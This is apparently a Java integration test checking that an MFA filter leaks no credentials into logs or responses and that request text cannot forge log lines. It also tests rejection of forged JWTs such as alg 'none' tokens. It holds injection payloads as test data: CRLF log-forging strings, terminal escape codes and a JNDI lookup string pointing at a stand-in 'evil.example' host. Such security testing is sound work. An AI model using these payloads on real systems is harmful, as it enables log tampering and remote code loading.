package io.mfafilter.it.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mfafilter.it.support.ServerProcess;
import io.mfafilter.simulator.control.CreatedSession;
import io.mfafilter.simulator.control.JwtSpec;
import io.mfafilter.simulator.fault.Fault;
import io.mfafilter.simulator.key.JwtForge.SignedBy;
import io.mfafilter.simulator.session.FactorSpec;
import io.mfafilter.simulator.session.SessionSpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What the log and the answers tell: no credential, no secret, and nothing that a client could make look like our words. */
@ExtendWith(AttackedServer.Extension.class)
class LeakIT {

    private final AttackedServer server;
    private final RawHttp http;

    LeakIT(AttackedServer server) {
        this.server = server;
        this.http = server.http();
    }

    /** The log is that of the server's whole life, so of every test that ran before this one too. */
    @Test
    void credentialsInEveryPlace_standInNoLogLineAndNoAnswer() {
        List<RawAnswer> answers = new ArrayList<>();
        answers.addAll(everythingWith(server.session()));
        answers.addAll(everythingWith(server.session(
                SessionSpec.with(FactorSpec.password(), FactorSpec.sms().aged(Duration.ofMinutes(6))))));
        answers.addAll(everythingWith(server.session(SessionSpec.with(FactorSpec.password(), FactorSpec.emailCode()))));
        answers.addAll(everythingWith(server.session(SessionSpec.with(FactorSpec.password()))));
        CreatedSession revoked = server.session();
        server.stytch().revoke(revoked.sessionId());
        answers.addAll(everythingWith(revoked));
        for (Fault fault : List.of(
                Fault.serverError(),
                Fault.error(401, "unauthorized_credentials"),
                Fault.error(400, "session_not_found"),
                Fault.badGateway(),
                Fault.truncatedJson(),
                Fault.redirect("http://127.0.0.1:1/"),
                Fault.tooManyRequests(1),
                Fault.dropBeforeBody())) {
            server.stytch().faults().always(server.stytch().asked(), fault);
            answers.addAll(everythingWith(server.session()));
            server.stytch().faults().clear();
        }
        server.awaitRecovery();
        CreatedSession forged = server.session();
        for (JwtSpec spec : List.of(
                JwtSpec.ofSession(forged.sessionId()).signedBy(SignedBy.FOREIGN),
                JwtSpec.ofSession(forged.sessionId()).header("alg", "none"),
                JwtSpec.ofSession(forged.sessionId()).header("kid", "unknown"),
                JwtSpec.ofSession(forged.sessionId()).without("exp"))) {
            String jwt = server.mint(spec);
            answers.add(http.get("/guarded/account/home", "Cookie: stytch_session_jwt=" + jwt));
            answers.add(http.get("/guarded/app/step-up/plain", "Authorization: Bearer " + jwt));
        }

        assertThat(answers)
                .hasSizeGreaterThan(150)
                .anyMatch(RawAnswer::sings)
                .anyMatch(answer -> answer.status() == 503);
        assertThat(server.secretsKept()).isGreaterThan(40);
        answers.forEach(answer -> server.assertNoSecretIn(withoutTheCookie(answer.text())));
        server.assertNoSecretIn(server.log());
        assertThat(server.log()).as("our words are in this log").contains("MFA0401", "MFA0302", "MFA0304");
    }

    /** Otherwise the test above would prove nothing: what an application lets the server log is found by it. */
    @Test
    void secretInTheLog_wouldBeFound_andNotBeRepeatedInTheReport() {
        String secret = "UnsupportedOperationException: asked for";
        // GlassFish says nothing of a failure that has an error page.
        http.get("/guarded/door/throw?to=/x");
        http.get("/guarded/door/log?to=/x");
        String log = await(server::log, secret);
        server.keep(secret);

        try {
            assertThatThrownBy(() -> server.assertNoSecretIn(log))
                    .isInstanceOf(AssertionError.class)
                    .hasMessageContaining("secrets that were told")
                    .hasMessageNotContaining("asked for");
        } finally {
            server.forget(secret);
        }
    }

    @Test
    void textFromARequest_cannotLookLikeALineOfOurs_norSteerATerminal() {
        List<String> pieces = List.of(
                "\r\nMFA0212 mfa-filter enforces: forged",
                "\nMFA0212 mfa-filter enforces: forged",
                "\rMFA0212 forged",
                "\u001b[31mRED",
                "\u001b]0;title\u0007",
                "\u0000cut",
                "\u0008\u0008\u0008",
                "\u000b\u000c",
                "\u007f",
                "\u0085next",
                "\u009b31m",
                "\u00e2\u0080\u00a8line",
                "\u00e2\u0080\u00aebidi",
                "${jndi:ldap://evil.example/x}",
                "{0}",
                "%n%s%d");
        RawHttp2 http2 = new RawHttp2(http.port());
        for (String piece : pieces) {
            // By HTTP/2 even line ends arrive in a path and in a method.
            http2.request("GET", "/guarded/account/leak" + piece, List.of());
            http2.request("LEAK" + piece, "/guarded/account/home", List.of());
            http2.request("GET", "/guarded/account/home", List.of(Map.entry("user-agent", "leak" + piece)));
            http.request("LEAK" + piece.replaceAll("[\r\n ]", "_"), "/guarded/account/home");
            http.get("/guarded/account/leak" + piece.replaceAll("[\r\n ]", "_"));
            http.get("/guarded/account/home", "X-Leak: " + piece.replaceAll("[\r\n]", "_"));
            http.get("/guarded/account/home", "Cookie: stytch_session=" + piece.replaceAll("[\r\n]", "_"));
            http.get("/guarded/account/home", "Authorization: Bearer " + piece.replaceAll("[\r\n]", "_"));
        }
        for (String encoded :
                List.of("%0d%0aMFA0212%20forged", "%1b%5b31mRED", "%00cut", "%E2%80%A8line", "%c2%85next")) {
            http.get("/guarded/account/leak" + encoded);
            http.get("/guarded/account/home?leak" + encoded);
        }

        // On the other servers no line end of a path was seen to reach the log; nothing is to be waited for there.
        String log = ServerProcess.isOtherThanPayara()
                ? logWithAnEscapedLineEnd()
                : await(this::logWithAnEscapedLineEnd, "leak\\u000d\\u000aMFA0212");

        List<String> ours = log.lines().filter(line -> line.contains("MFA0")).toList();
        assertThat(ours).isNotEmpty();
        assertThat(log.lines()).noneMatch(line -> line.startsWith("MFA0212") || line.startsWith("_MFA0212"));
        // Open Liberty writes down by itself which paths it did not find, as they came.
        assertThat(ServerProcess.isLiberty() ? String.join("\n", ours) : log)
                .doesNotContain(
                        "\u001b[31mRED",
                        "\u001b]0;",
                        "\u0000",
                        "\u0008",
                        "\u007f",
                        "\u0085",
                        "\u009b",
                        "\u2028",
                        "\u202e");
        assertThat(ours.stream().map(line -> line.substring(line.indexOf("MFA0"))))
                .allMatch(line -> line.chars().allMatch(c -> c >= 0x20 && c < 0x7f), "printable ASCII alone");
    }

    /** Asks again, as the log takes only so many refusals a second. */
    private String logWithAnEscapedLineEnd() {
        new RawHttp2(http.port())
                .request("GET", "/guarded/account/leak\r\nMFA0212 mfa-filter enforces: forged", List.of());
        return server.log();
    }

    @Test
    void longestOfPaths_isCutInTheLog() {
        String path = "/guarded/account/longest" + "x".repeat(6_000);

        String log = await(
                () -> {
                    http.get(path);
                    return server.log();
                },
                "longestxxx");

        assertThat(log.lines().filter(line -> line.contains("longestxxx")))
                .allMatch(line -> line.length() < 1_500, "bounded");
    }

    private static String await(Supplier<String> asking, String expected) {
        long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
        String text = asking.get();
        while (!text.contains(expected) && System.nanoTime() < deadline) {
            Thread.onSpinWait();
            text = asking.get();
        }
        assertThat(text.contains(expected))
                .as("the log has a line with %s", expected)
                .isTrue();
        return text;
    }

    private List<RawAnswer> everythingWith(CreatedSession session) {
        String cookies = AttackedServer.cookie(session);
        String token = "Cookie: stytch_session=" + session.token();
        List<RawAnswer> answers = new ArrayList<>();
        for (String page : List.of("/account/home", "/asked/x", "/app/step-up/plain", "/calling/home")) {
            answers.add(http.get("/guarded" + page, cookies));
            answers.add(http.get("/guarded" + page, token));
            answers.add(http.navigate("/guarded" + page, cookies));
            answers.add(http.get("/guarded" + page, "Authorization: Bearer " + session.jwt()));
            answers.add(http.get("/guarded" + page, "Authorization: Bearer " + session.token()));
        }
        answers.add(http.get("/guarded//account/home", cookies));
        answers.add(http.get("/guarded/door/throw?to=/x", cookies));
        answers.add(http.get("/guarded/door/include-late?to=/calling/home", cookies));
        answers.add(http.get("/guarded/app/step-up/calling-late", token));
        answers.add(http.get("/guarded/async-door/call-own-thread", cookies));
        answers.add(http.get(
                "/guarded/account/home",
                "Cookie: stytch_session_jwt=\"" + session.jwt() + "; stytch_session=" + session.token()));
        answers.add(http.get("/guarded/account/home", "Cookie: stytch_session_jwt=" + session.jwt() + "\u0001"));
        answers.forEach(server::keepCookieOf);
        return answers;
    }

    /** The one place where a JWT may stand. */
    private static String withoutTheCookie(String answer) {
        return answer.replaceAll("(?m)^Set-Cookie: stytch_session_jwt=.*$", "");
    }
}
